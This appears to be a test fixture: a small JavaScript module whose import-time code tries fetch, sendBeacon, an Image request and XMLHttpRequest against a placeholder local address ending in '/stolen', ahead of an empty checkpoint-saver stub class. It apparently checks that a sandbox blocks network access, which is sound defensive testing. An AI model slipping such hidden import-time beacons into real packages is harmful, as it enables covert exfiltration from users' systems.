// Tries: to send a request with what browsers and Node have for that
// @ts-nocheck
try { await globalThis.fetch("http://127.0.0.1:__TCP_PORT__/stolen"); } catch {}
try { globalThis.navigator.sendBeacon("http://127.0.0.1:__TCP_PORT__/stolen", "x"); } catch {}
try { new globalThis.Image().src = "http://127.0.0.1:__TCP_PORT__/stolen"; } catch {}
try { const request = new globalThis.XMLHttpRequest(); request.open("GET", "http://127.0.0.1:__TCP_PORT__/", false); request.send(); } catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
